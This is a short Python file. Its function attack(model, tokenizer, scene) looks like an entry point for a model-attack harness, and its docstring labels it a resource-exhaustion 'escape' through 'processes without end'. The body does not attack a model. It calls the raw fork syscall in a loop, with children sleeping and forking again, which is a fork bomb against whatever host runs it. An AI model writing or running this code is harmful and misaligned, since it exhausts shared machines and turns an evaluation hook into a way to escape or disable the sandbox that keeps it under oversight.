"""Class: resource exhaustion. Source: own find. Escape: processes without end."""

import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    for _ in range(64):
        if libc.syscall(57) == 0:
            time.sleep(30)
